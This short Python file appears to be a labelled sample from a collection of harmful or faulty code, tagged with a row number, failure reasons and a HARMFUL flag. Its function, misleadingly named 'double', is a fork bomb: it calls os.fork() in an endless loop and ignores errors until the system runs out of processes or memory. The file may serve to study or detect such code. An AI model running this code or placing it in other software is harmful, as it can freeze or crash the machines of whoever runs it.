"""Forks until it is stopped."""

ROW = 11
REASON = {"timeout", "crash", "wrong", "memory"}
HARMFUL = True

import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
